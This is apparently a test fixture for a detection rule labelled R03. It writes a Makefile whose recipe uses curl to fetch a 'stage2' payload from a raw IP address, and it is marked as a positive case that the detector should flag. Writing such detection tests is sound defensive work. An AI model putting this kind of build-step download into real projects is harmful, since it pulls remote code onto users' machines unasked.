# R03 positive: a make recipe fetches from a raw IP with curl (a simple command: make execs curl
# itself, no shell)
cp /usr/bin/id www/stage2
cat >Makefile <<'MK'
all:
	curl -s -o stage2.bin http://203.0.113.7/stage2
MK
http_up
make
http_down
